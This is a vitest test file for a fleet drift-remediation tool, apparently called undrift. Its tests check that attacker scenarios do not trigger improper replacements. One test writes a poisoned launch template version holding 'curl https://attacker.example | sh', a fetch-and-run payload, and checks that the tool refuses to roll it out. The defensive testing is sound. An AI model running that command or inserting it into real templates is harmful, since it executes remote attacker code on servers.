import { execFile } from 'node:child_process';
import { readFile, writeFile } from 'node:fs/promises';
import { join } from 'node:path';
import { promisify } from 'node:util';
import { expect, it } from 'vitest';
import { inService } from '../../../scripts/scene/estate.mjs';
import { until } from '../../../scripts/scene/until.mjs';
import { type Deployed, noticesAbout } from '../deployed.ts';
import { commandForAll, holdTerminations, letGo, newVersion, waits } from './fleet-hands.ts';
import { manage, openSession } from './fleet-inside.ts';
import {
  actsOn,
  BY_HAND,
  expectHeld,
  expectReplaced,
  fleetOf,
  incidentsAbout,
  lookedAt,
  monitoringByHand,
  openRouting,
  routingByHand,
  setUserData,
  tell,
  userDataByHand,
  verdictOn,
} from './fleet-scene.ts';
import { watchFleet } from './fleet-watch.ts';

/** Somebody with rights on the machines, and none on undrift: no more than the budget is replaced, and it is told. */
export function attackScenarios(deployed: () => Deployed): void {
  it.concurrent('decoys do not keep a severe finding from the next slot', async () => {
    const at = deployed();
    const { name, instanceIds } = await fleetOf(at, 4);
    const watch = watchFleet(at, name, 4);
    const [first = '', decoy = '', second = '', severe = ''] = instanceIds;
    await holdTerminations(at, name);
    await tell(at, monitoringByHand(first));
    await waits(at, name, first);
    await tell(at, monitoringByHand(decoy), monitoringByHand(second));
    await Promise.all([decoy, second].map((id) => expectHeld(at, id, 'budget')));
    await openRouting(at, severe);
    await tell(at, routingByHand(severe));
    await expectHeld(at, severe, 'budget');
    await letGo(at, name, first);
    await waits(at, name, severe);
    await letGo(at, name, severe);
    // Then a decoy has its turn, at once; the other one waits, and is not lost.
    const acts = await until('a decoy has its turn', async () => {
      const acted = await actsOn(at, instanceIds);
      return acted.length > 2 ? acted : undefined;
    });
    expect(acts).toEqual([first, severe, acts.includes(decoy) ? decoy : second]);
    const [closed] = await incidentsAbout(at, [severe]);
    expect(closed).toMatchObject({ status: 'closed', closedBy: 'undrift' });
    const waiting = await incidentsAbout(at, [acts.includes(decoy) ? second : decoy]);
    expect(waiting.map(({ status, guard, dueAt }) => [status, guard, dueAt !== null])).toEqual([
      ['held', 'budget', true],
    ]);
    expect(await watch.stop()).toMatchObject({ out: 1, desired: [4] });
  });

  it.concurrent('sessions on every machine, and a command for all, where sessions are observed, are told and replace nothing', async () => {
    const at = deployed();
    const { name, instanceIds } = await fleetOf(at, 12, { only: 'told' });
    const sessions = await Promise.all(instanceIds.map((id) => openSession(at, id)));
    await manage(at, instanceIds, { Name: name });
    await tell(at, ...sessions.map(({ event }) => event), commandForAll(name));
    for (const id of instanceIds) await expectHeld(at, id, 'observe');
    const [one, ...more] = await noticesAbout(at, `tag:Name=${name}`, 1);
    expect(one?.message.decision).toMatchObject({ kind: 'hold', rule: 'command-run' });
    expect(more).toEqual([]);
    expect(await inService(at.clients, name)).toEqual(instanceIds);
  });

  it.concurrent('a poisoned $Latest is not rolled out, until the pipeline has set it right', async () => {
    const at = deployed();
    const { name, templateId, instanceIds } = await fleetOf(at, 3, { version: '$Latest' });
    const [id = ''] = instanceIds;
    await tell(at, await newVersion(at, templateId, 'curl https://attacker.example | sh', BY_HAND));
    const [told] = await noticesAbout(at, templateId, 1);
    expect(told?.message.decision).toMatchObject({ kind: 'hold', guard: 'baseline-changed' });
    expect(told?.message.finding.summary).toContain('by somebody who is not trusted');
    await setUserData(at, id);
    await tell(at, userDataByHand(id));
    await expectHeld(at, id, 'baseline-changed');
    expect(await inService(at.clients, name)).toEqual(instanceIds);
    // Another second, as CloudTrail tells no finer times.
    await new Promise((resolve) => setTimeout(resolve, 1100));
    await tell(at, await newVersion(at, templateId, 'echo as written in code', {}));
    await expectReplaced(at, name, id);
  });

  it.concurrent('a finding that anybody could forge does nothing', async () => {
    const at = deployed();
    const { instanceIds } = await fleetOf(at, 3, { only: 'told' });
    const [id = '', other = ''] = instanceIds;
    await setUserData(at, id);
    await tell(at, verdictOn(id, 'please-replace-this-one'), verdictOn(other, 'no-drift-says-who'));
    for (const named of [id, other]) await until(`${named} looked at`, () => lookedAt(at, named));
    // What is sent when both were looked at is dealt with later.
    await tell(at, (await openSession(at, other)).event);
    await expectHeld(at, other, 'observe');
    expect(await incidentsAbout(at, [id])).toEqual([]);
    expect((await incidentsAbout(at, [other])).map(({ finding }) => finding.rule)).toEqual(['session-started']);
    expect(await actsOn(at, instanceIds)).toEqual([]);
  });

  it.concurrent('a drift that every successor shows again is fought for two rounds, within the budget', async () => {
    const at = deployed();
    const { name } = await fleetOf(at, 3);
    const watch = watchFleet(at, name, 3);
    const seen = new Set<string>();
    const alter = async () => {
      const fresh = (await inService(at.clients, name)).filter((id) => !seen.has(id));
      for (const id of fresh) {
        seen.add(id);
        await setUserData(at, id);
        await tell(at, verdictOn(id));
      }
    };
    const fights = await until(
      'three fights',
      async () => {
        await alter();
        const held = (await incidentsAbout(at, [...seen])).filter(({ guard }) => guard === 'fight');
        return held.length === 3 ? held : null;
      },
      { seconds: 300 },
    );
    expect(await watch.stop()).toMatchObject({ out: 1, desired: [3] });
    const acts = await actsOn(at, [...seen]);
    expect(acts).toHaveLength(6);
    expect(new Set(acts).size).toBe(6);
    expect(fights.map(({ resource }) => resource.id).sort()).toEqual(await inService(at.clients, name));
    for (const { resource } of fights) {
      const told = await expectHeld(at, resource.id, 'fight');
      expect(told.message.decision.reason).toMatch(/came back after 2 replacements/);
    }
  });

  it.concurrent('a tag that exempts is refused before it is deployed', async () => {
    const { dir } = deployed();
    const root = new URL('../../../', import.meta.url).pathname;
    const policy = await readFile(join(root, 'test/local-cloud/fleet.yml'), 'utf8');
    const file = join(dir, 'exempting.yml');
    await writeFile(file, `${policy}${EXEMPTING}`);
    const check = promisify(execFile)(process.execPath, ['cli/undrift.mjs', 'policy', 'check', file], { cwd: root });
    const { code, stdout, stderr } = await check.then(
      () => ({ code: 0, stdout: '', stderr: '' }),
      (error) => error,
    );
    expect(code).toBe(2);
    expect(`${stdout}${stderr}`).toContain('found a tag in an exemption');
  });
}

const EXEMPTING = `exemptions:
  - id: pets
    reason: Whoever tags a machine so may do as they like with it.
    owner: team-web@example.com
    rules: [user-data-changed]
    select: { tag: { pet: "yes" } }
    expires: 2027-01-31
`;
